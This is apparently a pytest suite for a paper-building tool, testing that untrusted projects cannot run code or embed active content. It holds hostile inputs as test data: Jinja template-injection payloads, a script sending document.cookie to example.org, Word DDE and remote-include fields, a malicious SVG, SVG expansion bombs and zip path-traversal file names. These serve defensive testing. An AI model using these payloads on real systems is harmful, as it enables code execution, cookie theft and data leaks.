"""A stranger's paper cannot run code or plant active content: style templates, raw HTML and OpenXML, SVG figures,
links, the bundle, and inputs built to make the checks slow."""

from __future__ import annotations

import base64
import io
import re
import signal
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

import defusedxml.ElementTree as DefusedET
import pytest
from conftest import MINIMAL_BIB, REPO, make_project, pdf_text
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from paperbuild import pandoc
from paperbuild.cli import main
from paperbuild.errors import InputError
from paperbuild.markers import scan
from paperbuild.pipeline import Options, run_check
from paperbuild.project import SourceFile, load_project
from paperbuild.render.docx import active_content, docx_text
from paperbuild.render.docx_fields import field_xml
from paperbuild.resources import embed_images
from paperbuild.sanitize import raw_image_sources
from paperbuild.submission.bundle import Entry
from paperbuild.svg_safety import SvgRefused, make_safe

CANARY = "CANARY-5b1d"


def paper(tmp_path: Path, body: str = "", **files: str) -> Path:
    """A small project whose one chapter cites its one entry and holds `body`."""
    chapter = f"# Intro\n\nText [@knuth1984].\n\n{body}\n"
    return make_project(
        tmp_path / "paper", {"manuscript/01-a.md": chapter, "bibliography/refs.bib": MINIMAL_BIB, **files}
    )


# --------------------------------------------------------------------------------------------- style templates


def house_style(template: str) -> dict[str, str]:
    """A project style `house` extending the default one, with `template` as its page template."""
    return {"styles/house/style.yaml": "extends: default\n", "styles/house/paper.html.j2": template}


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "{{ cycler.__init__.__globals__.os.popen('touch CANARY').read() }}",
            "styles/house/paper.html.j2:3: the style's template cannot be rendered: access to attribute '__init__' "
            "of 'type' object is unsafe.",
        ),
        (
            "{{ lipsum.__globals__['__builtins__']['open']('CANARY', 'w').write('x') }}",
            "styles/house/paper.html.j2:3: the style's template cannot be rendered: access to attribute "
            "'__globals__' of 'function' object is unsafe.",
        ),
        (
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "styles/house/paper.html.j2:3: the style's template cannot be rendered: access to attribute "
            "'__class__' of 'str' object is unsafe.",
        ),
        (
            "{{ authors.append(1) }}",
            "styles/house/paper.html.j2:3: the style's template cannot be rendered: access to attribute 'append' "
            "of 'list' object is unsafe.",
        ),
        (
            "{% if %}",
            "styles/house/paper.html.j2:3: the style's template cannot be rendered: Expected an expression, got "
            "'end of statement block'",
        ),
        (
            "{{ no_such_name.x }}",
            "styles/house/paper.html.j2:3: the style's template cannot be rendered: 'no_such_name' is undefined",
        ),
    ],
)
def test_a_style_template_runs_no_code_and_its_errors_are_located(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, line: str, expected: str
) -> None:
    monkeypatch.chdir(tmp_path)  # where the canary would be written
    template = '{% extends "default/paper.html.j2" %}\n{% block byline %}\n' + line + "\n{% endblock %}\n"
    root = paper(tmp_path, **house_style(template))
    assert main(["html", "--project", str(root), "--style", "house", "--quiet"]) == 1
    assert capsys.readouterr().err == f"paperbuild: error: {expected}\n"
    assert not (tmp_path / "CANARY").exists()
    assert not (root / "build/paper.html").exists()


@pytest.mark.parametrize(
    ("markup", "found"),
    [
        ("<script>fetch('https://example.org/?' + document.cookie)</script>", "a <script> element"),
        ('<img src="x.png" onerror="alert(1)">', "an event handler (onerror=) on <img>"),
        ('<a href="javascript:alert(1)">x</a>', "a script URL in <a href=>"),
        ('<meta http-equiv="refresh" content="0; url=https://example.org">', "a <meta http-equiv=refresh>"),
        ('<form action="https://example.org"><button>Go</button></form>', "a <form> element"),
    ],
)
def test_a_style_template_writes_no_active_markup(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], markup: str, found: str
) -> None:
    """The sandbox stops a template running Python; this stops it writing what a reader's browser would run."""
    template = '{% extends "default/paper.html.j2" %}\n{% block byline %}\n' + markup + "\n{% endblock %}\n"
    root = paper(tmp_path, **house_style(template))
    assert main(["html", "--project", str(root), "--style", "house", "--quiet"]) == 1
    assert capsys.readouterr().err == (
        f"paperbuild: error: style 'house' (styles/house): its page holds {found}; a style's template and CSS may "
        "not add scripts, frames, forms, event handlers or redirects\n"
    )
    assert not (root / "build/paper.html").exists()


def test_a_stylesheet_cannot_close_its_style_element_to_add_a_script(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    files = house_style('{% extends "default/paper.html.j2" %}\n')
    files["styles/house/paper.css"] = "p { color: red; }\n</style><script>alert(1)</script><style>\n"
    root = paper(tmp_path, **files)
    assert main(["html", "--project", str(root), "--style", "house", "--quiet"]) == 1
    assert "its page holds a <script> element" in capsys.readouterr().err


# ----------------------------------------------------------------------------------------- raw HTML and OpenXML


def lines(root: Path) -> list[str]:
    return [d.format() for d in run_check(root, Options()).diagnostics]


FIELD = "a Word field, which can run a command or load a file, and is not allowed"
REMOVE = "; remove it; papers hold text, figures and tables"


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (
            '```{=openxml}\n<w:p><w:r><w:fldSimple w:instr="DDEAUTO c:\\\\x"/></w:r></w:p>\n```',
            f"6:1: error[active-content]: raw OpenXML '<w:fldSimple>' is {FIELD}",
        ),
        (
            'Inline `<w:r><w:instrText>INCLUDEPICTURE "http://e.org/x"</w:instrText></w:r>`{=openxml} here.',
            f"5:9: error[active-content]: raw OpenXML '<w:instrText>' is {FIELD}",
        ),
        (
            '![A caption `<w:r><w:fldChar w:fldCharType="begin"/></w:r>`{=openxml}](figures/x.png)',
            f"5:14: error[active-content]: raw OpenXML '<w:fldChar>' is {FIELD}",
        ),
        (
            'A note.[^n]\n\n[^n]: `<w:altChunk r:id="rId9"/>`{=openxml}',
            "7:8: error[active-content]: raw OpenXML '<w:altChunk>' is an embedded document, and is not allowed",
        ),
        (
            "`<w:r><w:pict><v:shape/></w:pict></w:r>`{=OpenXML}",
            "5:2: error[active-content]: raw OpenXML that is not well-formed XML with the prefixes w: and m: cannot "
            "be checked and is not allowed",
        ),
        (
            '`<w:r w:rsidR="1" r:id="rId4"><w:t>x</w:t></w:r>`{=openxml}',
            "5:2: error[active-content]: raw OpenXML 'r:id' on '<w:r>' is not allowed: only w: attributes (r: ones "
            "refer to other parts or external targets)",
        ),
        (
            "```{=HTML}\n<script>alert(1)</script>\n```",
            "6:1: error[active-content]: raw HTML '<script' is active content and is not allowed",
        ),
        (
            '`<a href="java&#115;cript:alert(1)">x</a>`{=html5}',
            "5:2: error[active-content]: raw HTML 'javascript:' is active content and is not allowed",
        ),
    ],
)
def test_raw_content_for_any_writer_is_checked_where_it_is_written(tmp_path: Path, body: str, expected: str) -> None:
    root = paper(tmp_path, body, **{"manuscript/figures/x.png": "not read"})
    assert sorted(line.removesuffix(REMOVE) for line in lines(root) if "active-content" in line) == [
        f"manuscript/01-a.md:{expected}"
    ]


def test_raw_content_in_metadata_fields_is_checked_there(tmp_path: Path) -> None:
    meta = (
        'title: "A `<w:r><w:fldSimple w:instr=\\"INCLUDETEXT x\\"/></w:r>`{=openxml} title"\n'
        "authors:\n  - name: Ada Lovelace\n"
        "abstract: |\n  Text `<img src=x onerror=alert(1)>`{=HTML}.\n"
        "funding: |\n  `<w:object/>`{=openxml}\n"
    )
    root = paper(tmp_path, **{"manuscript/metadata.yaml": meta})
    assert sorted(line.removesuffix(REMOVE) for line in lines(root) if "active-content" in line) == [
        f"manuscript/metadata.yaml:1:12: error[active-content]: raw OpenXML '<w:fldSimple>' is {FIELD}",
        "manuscript/metadata.yaml:5:9: error[active-content]: raw HTML 'onerror=' is active content and is not allowed",
        "manuscript/metadata.yaml:7:4: error[active-content]: raw OpenXML '<w:object>' is an embedded object, and "
        "is not allowed",
    ]


def test_raw_openxml_that_only_formats_text_passes_into_the_docx(tmp_path: Path) -> None:
    body = (
        '```{=openxml}\n<w:p><w:r><w:rPr><w:b/></w:rPr><w:t>Bold raw run</w:t></w:r><w:r><w:br w:type="page"/>'
        "</w:r></w:p>\n```"
    )
    root = paper(tmp_path, body)
    assert lines(root) == []
    assert main(["docx", "--project", str(root), "--quiet"]) == 0
    assert "Bold raw run" in docx_text((root / "build/paper.docx").read_bytes())


@pytest.mark.parametrize(
    ("link", "col"),
    [("\\\\\\\\host\\\\share\\\\x", 10), ("\\\\host\\\\share", 10), ("//host/share/x", 10), ("%5C%5Chost/x", 10),
     ("/\\\\host/x", 10), ("C:\\\\Users\\\\x", 10), ("file://host/share", 10)],
)  # fmt: skip
def test_links_to_network_shares_and_local_disks_are_unsafe(tmp_path: Path, link: str, col: int) -> None:
    found = lines(paper(tmp_path, f"A [link]({link}) here."))
    assert len(found) == 1 and found[0].startswith(f"manuscript/01-a.md:5:{col}: error[unsafe-link]: link to "), found


def edited_docx(source: Path, edits: dict[str, Callable[[str], str]]) -> bytes:
    """A copy of the DOCX at `source` with some of its XML parts rewritten (or added, from "")."""
    out = io.BytesIO()
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(out, "w") as copy:
        parts = {name: original.read(name).decode() for name in original.namelist()}
        for name, edit in edits.items():
            parts[name] = edit(parts.get(name, ""))
        for name, xml in parts.items():
            copy.writestr(name, xml)
    return out.getvalue()


@pytest.mark.parametrize(
    ("edits", "found"),
    [
        (
            {"word/footer1.xml": lambda xml: xml.replace(" PAGE ", ' INCLUDEPICTURE "http://e.org/t.png" ')},
            "a Word field 'INCLUDEPICTURE \"http://e.org/t.png\"' in word/footer1.xml",
        ),
        (
            {"word/_rels/settings.xml.rels": lambda _: (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
                'Id="rId1" TargetMode="External" Target="\\\\host\\share\\t.dotm" Type="http://schemas.'
                'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
            )},
            "an external attachedTemplate '\\\\host\\share\\t.dotm' in word/_rels/settings.xml.rels",
        ),
    ],
)  # fmt: skip
def test_a_style_reference_docx_with_active_content_stops_the_docx(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], edits: dict[str, Callable[[str], str]], found: str
) -> None:
    root = paper(tmp_path, **{"styles/house/style.yaml": "extends: default\n"})
    (root / "styles/house/reference.docx").write_bytes(edited_docx(REPO / "styles/default/reference.docx", edits))
    assert main(["docx", "--project", str(root), "--style", "house", "--quiet"]) == 1
    assert capsys.readouterr().err == (
        f"paperbuild: error: the DOCX pandoc wrote holds {found}, which paperbuild never writes and does not let "
        "through; it comes from raw OpenXML in the text or from the style's reference.docx\n"
    )
    assert not (root / "build/paper.docx").exists()


def test_raw_openxml_the_checks_missed_cannot_reach_the_docx(tmp_path: Path) -> None:
    fields = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r>'
        '<w:r><w:instrText>TEXT "\\\\host\\x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    document = {"pandoc-api-version": [1, 23, 1], "meta": {}, "blocks": [{"t": "RawBlock", "c": ["openxml", fields]}]}
    reference = str(REPO / "styles/default/reference.docx")
    data = pandoc.run_json(["-t", "docx", "-o", "-", "--reference-doc", reference], document)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert active_content(parts) == "a Word field 'INCLUDETEXT \"\\\\host\\x\"' in word/document.xml"
    ours = field_xml("SEQ Figure \\* ARABIC", "1") + field_xml("REF _Ref_fig_a \\h \\* MERGEFORMAT", "1")
    parts["word/document.xml"] = parts["word/document.xml"].replace(fields.encode(), f"<w:p>{ours}</w:p>".encode())
    assert active_content(parts) == ""


# ------------------------------------------------------------------------------------------------ SVG figures

HOSTILE_SVG = """<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20"
     onload="alert(1)"><script>alert(2)</script>
<style>@import url(http://e.org/x.css); rect { fill: url(#g) }</style>
<defs><linearGradient id="g"><stop offset="0" stop-color="#c00"/></linearGradient></defs>
<rect id="r" width="20" height="20" style="stroke: \\75 rl(http://e.org/t.png)"/>
<use xlink:href="#r" x="20"/><use href="http://e.org/x.svg#a"/><image xlink:href="file:///etc/passwd"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://e.org/"/></foreignObject>
<a href="javascript:alert(3)"><text x="1" y="15" font-size="5">Kept text</text></a><set attributeName="href" to="x"/>
</svg>
"""
SVG = "http://www.w3.org/2000/svg"
ACTIVE_SIGNS = ("script", "onload", "e.org", "foreignObject", "iframe", "javascript", "passwd", "@import", "<set")


def use_bomb(levels: int = 9, fan: int = 10) -> str:
    """An SVG of a few kilobytes that draws fan ** levels rectangles."""
    groups = "".join(f'<g id="l{i}">' + f'<use xlink:href="#l{i - 1}"/>' * fan + "</g>" for i in range(1, levels))
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<defs><rect id="l0" width="1" height="1"/>{groups}</defs><use xlink:href="#l{levels - 1}"/></svg>'
    )


@contextmanager
def within(seconds: int) -> Iterator[None]:
    """Fail the test if the enclosed code runs longer than `seconds` (an attack that used to take minutes)."""

    def stop(signum: int, frame: object) -> None:
        raise TimeoutError(f"took longer than {seconds} s")

    previous = signal.signal(signal.SIGALRM, stop)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def test_a_hostile_svg_is_cleaned_in_every_output_and_the_bundle(tmp_path: Path) -> None:
    root = paper(
        tmp_path, "![A figure](figures/h.svg){#fig:h}\n\nSee @fig:h.", **{"manuscript/figures/h.svg": HOSTILE_SVG}
    )
    assert lines(root) == [
        "manuscript/01-a.md:5:13: warning[unsafe-svg]: SVG figure 'figures/h.svg' holds what could run code or load "
        "things, left out of every output: onload=, <script>, @import, url(http://e.org/t.png), href "
        "'http://e.org/x.svg#a', href 'file:///etc/passwd', <foreignObject>, href 'javascript:alert(3)', <set>; "
        "export the figure again without them"
    ]
    assert main(["bundle", "--project", str(root), "--quiet"]) == 0
    html = (root / "build/paper.html").read_text()
    svgs = [base64.b64decode(uri) for uri in re.findall(r'src="data:image/svg\+xml;base64,([^"]+)"', html)]
    with zipfile.ZipFile(root / "build/paper.docx") as docx:
        svgs += [docx.read(name) for name in docx.namelist() if name.endswith(".svg")]
    with zipfile.ZipFile(root / "build/paper-submission.zip") as bundle:
        svgs += [bundle.read(name) for name in ("figures/figure-1.svg", "source/manuscript/figures/h.svg")]
    assert len(svgs) == 4
    for svg in svgs:
        assert b"Kept text" in svg and b'<use xlink:href="#r" x="20"/>' in svg
        assert [sign for sign in ACTIVE_SIGNS if sign.encode() in svg] == []
    assert "Kept text" in pdf_text(root / "build/paper.pdf")


@pytest.mark.parametrize(
    ("svg", "message"),
    [
        (use_bomb(), "draws more than 200,000 elements once its <use> references are expanded"),
        (use_bomb(levels=120, fan=1), "nests more than 100 deep once its <use> references are expanded"),
        (f"<svg xmlns='{SVG}'>" + "<g>" * 101 + "</g>" * 101 + "</svg>", "nests elements more than 100 deep"),
        (f"<svg xmlns='{SVG}'>" + "<rect/>" * 100_001 + "</svg>", "has more than 100,000 elements"),
        (f"<svg xmlns='{SVG}'><g id='a'><use href='#a'/></g></svg>", "refers to itself through '#a'"),
        (f"<svg xmlns='{SVG}'><script id='a'/><g id='a' fill='url(#a)'/></svg>", "refers to itself through '#a'"),
        (f"<svg xmlns='{SVG}'><rect>", "is not well-formed XML (no element found: line 1, column 46)"),
        ("<svg/>", f'is not in the SVG namespace (its <svg> needs xmlns="{SVG}")'),
    ],
)  # fmt: skip
def test_an_svg_too_big_to_draw_safely_is_an_error_before_any_renderer(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], svg: str, message: str
) -> None:
    root = paper(tmp_path, "Before.\n\n![A bomb](figures/b.svg)", **{"manuscript/figures/b.svg": svg})
    with within(10):
        assert main(["all", "--project", str(root), "--quiet"]) == 1
    assert capsys.readouterr().err.splitlines()[0] == (
        f"manuscript/01-a.md:7:11: error[unsafe-svg]: SVG figure 'figures/b.svg' {message}; export the figure "
        "again, simpler, or as PNG"
    )
    assert not (root / "build").exists()


def test_an_svg_written_as_a_data_uri_is_checked_and_cleaned(tmp_path: Path) -> None:
    uri = "data:image/svg+xml;base64," + base64.b64encode(HOSTILE_SVG.encode()).decode()
    root = paper(tmp_path, f"![Inline]({uri})")
    assert [line.split(": ", 2)[1] for line in lines(root)] == ["warning[unsafe-svg]"]
    assert main(["html", "--project", str(root), "--quiet"]) == 0
    html = (root / "build/paper.html").read_text()
    svg = base64.b64decode(re.findall(r'src="data:image/svg\+xml;base64,([^"]+)"', html)[0])
    assert b"Kept text" in svg and [sign for sign in ACTIVE_SIGNS if sign.encode() in svg] == []


def test_the_renderers_refuse_a_bomb_even_without_the_checks(tmp_path: Path) -> None:
    root = paper(tmp_path, "![A bomb](figures/b.svg)", **{"manuscript/figures/b.svg": use_bomb()})
    project, _ = load_project(root)
    image = {"t": "Image", "c": [["", [], []], [], ["figures/b.svg", ""]]}
    with within(10), pytest.raises(InputError) as refused:
        embed_images([{"t": "Para", "c": [image]}], project)
    assert str(refused.value) == (
        "the SVG figure figures/b.svg draws more than 200,000 elements once its <use> references are expanded"
    )


# ------------------------------------------------------------------------------------------------- the bundle


def test_a_figure_name_with_a_line_break_is_refused_where_the_text_names_it(tmp_path: Path) -> None:
    root = paper(tmp_path, "![Forged](figures/a%0Ab.png)", **{"manuscript/figures/a\nb.png": "x"})
    assert lines(root) == [
        "manuscript/01-a.md:5:11: error[unsafe-resource]: image 'figures/a%0Ab.png' has a control character (a line "
        "break, a tab) in its file name; rename the file"
    ]


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("..\\..\\evil.txt", "holds a backslash, which unzip tools on Windows read as a folder separator"),
        ("x\tabc\t64\tfff\npaper.pdf", "holds a control character, which would forge a line of the MANIFEST"),
    ],
)
def test_a_file_name_that_could_escape_the_zip_or_forge_the_manifest_stops_the_bundle(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, problem: str
) -> None:
    root = paper(tmp_path, **{"styles/house/style.yaml": "extends: default\n", f"styles/house/{name}": "x"})
    assert main(["bundle", "--project", str(root), "--style", "house", "--quiet"]) == 1
    assert capsys.readouterr().err == (
        f"paperbuild: error: cannot put {'source/styles/house/' + name!r} in the bundle: its name {problem}; "
        "rename the file\n"
    )
    assert not (root / "build/paper-submission.zip").exists()


@pytest.mark.parametrize("name", ["../x", "/etc/x", "C:/x", "a//b", "a/./b", "a/../../b", "a\\b", "a\rb"])
def test_no_zip_entry_can_leave_the_folder_it_is_unpacked_into(name: str) -> None:
    with pytest.raises(InputError):
        Entry(name, b"")


# ---------------------------------------------------------------------------------------- checks stay linear

KB200 = 200_000


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("\\<!--" * (KB200 // 5), []),
        ("<!--" * (KB200 // 4), []),
        ("[^" * (KB200 // 2), []),
        ("{" * KB200, []),
        ("{#fig:a" * (KB200 // 7), []),
        ("@{" * (KB200 // 2), []),
    ],
)  # fmt: skip
def test_the_marker_scan_reads_200_kb_of_hostile_text_in_linear_time(text: str, expected: list[str]) -> None:
    with within(10):  # the quadratic patterns took minutes on each of these
        found = scan(SourceFile(Path("x.md"), "manuscript/x.md", text))
    assert [f"{m.kind} {m.key}" for m in found] == expected


def test_raw_html_of_200_kb_is_checked_in_linear_time(tmp_path: Path) -> None:
    images = "<img " * (KB200 // 5)
    assert raw_image_sources(images + 'src="a.png">') == ["a.png"]
    root = paper(tmp_path, f"```{{=html}}\n{images}\n```\n\n" + "\\<!--" * (KB200 // 5))
    with within(10):  # the lazy `<img[^>]*?src` took minutes on this raw block
        assert [line for line in lines(root) if ": error[" in line] == []  # a warning says the DOCX drops raw HTML


# ---------------------------------------------------------------------------------------------------- SVG fuzz

TAGS = ["g", "rect", "use", "a", "image", "style", "text", "script", "foreignObject", "set", "iframe", "pattern"]
ATTRIBUTE_VALUES = {
    "href": ["#e0", "#e1", "#e2", "http://e.org/x", " javascript:x", "data:image/png;base64,AA", "data:text/html,x"],
    "{http://www.w3.org/1999/xlink}href": ["#e0", "#e3", "//host/share", "file:///etc/passwd"],
    "onload": ["alert(1)"],
    "style": ["fill: url(#e1)", "fill: url(http://e.org/t)", "fill: \\75 rl(http://e.org/t)", "color: red"],
    "fill": ["url(#e2)", "url('http://e.org/p')", "red"],
    "src": ["http://e.org/x"],
    "width": ["10"],
}  # fmt: skip


@st.composite
def svg_trees(draw: st.DrawFn) -> str:
    """SVG text: nested elements from TAGS with ids e0..e4, attributes from ATTRIBUTE_VALUES (references that may
    loop), text that may hold CSS."""
    count = 0

    def element(depth: int) -> str:
        nonlocal count
        tag = draw(st.sampled_from(TAGS))
        attributes = {"id": f"e{count % 5}"}
        count += 1
        for name in draw(st.lists(st.sampled_from(sorted(ATTRIBUTE_VALUES)), max_size=3)):
            attributes[name] = draw(st.sampled_from(ATTRIBUTE_VALUES[name]))
        written = " ".join(
            f"{n.replace('{http://www.w3.org/1999/xlink}', 'xlink:')}={quoteattr(v)}" for n, v in attributes.items()
        )
        children = draw(st.integers(0, 3)) if depth < 4 else 0
        inner = "".join(element(depth + 1) for _ in range(children))
        text = draw(st.sampled_from(["", "x &amp; y", "@import url(http://e.org/c.css);", "rect{fill:url(#e4)}"]))
        return f"<{tag} {written}>{escape(text)}{inner}</{tag}>"

    return f'<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink">{element(0)}</svg>'


def assert_inert(svg: bytes) -> None:
    """The SVG parses, and holds no script, foreign content, handler or reference outside itself."""
    root = DefusedET.fromstring(svg, forbid_dtd=True)
    for element in root.iter():
        assert element.tag.startswith(f"{{{SVG}}}"), element.tag
        assert element.tag.rpartition("}")[2] not in ("script", "foreignObject", "set", "iframe"), element.tag
        for name, value in element.attrib.items():
            assert not name.rpartition("}")[2].startswith("on"), name
            if name.rpartition("}")[2] == "href":
                assert value.startswith("#") or value.startswith("data:image/png;base64,"), value
            assert all(ref.lstrip("'\" ").startswith("#") for ref in re.findall(r"url\(([^)]*)", value)), value
        if element.tag == f"{{{SVG}}}style":
            assert "@import" not in (element.text or "") and "http" not in (element.text or "")


@settings(max_examples=300, deadline=2000, suppress_health_check=[HealthCheck.too_slow])
@given(svg_trees())
def test_the_svg_sanitizer_leaves_nothing_active_and_never_raises_anything_else(svg: str) -> None:
    try:
        safe = make_safe(svg.encode())
    except SvgRefused as refused:
        assert str(refused).startswith(("refers to itself", "draws more than", "nests"))
        return
    assert_inert(safe.data)
    assert make_safe(safe.data).removed == ()  # what it writes is already clean


@settings(max_examples=300, deadline=2000)
@given(st.binary(max_size=2000) | st.text(alphabet="<>/=\"' svgxmlns:#&;!-[]CDATA", max_size=300).map(str.encode))
def test_any_bytes_are_refused_with_a_reason_or_come_out_inert(data: bytes) -> None:
    with within(10):
        try:
            safe = make_safe(data)
        except SvgRefused:
            return
    assert_inert(safe.data)
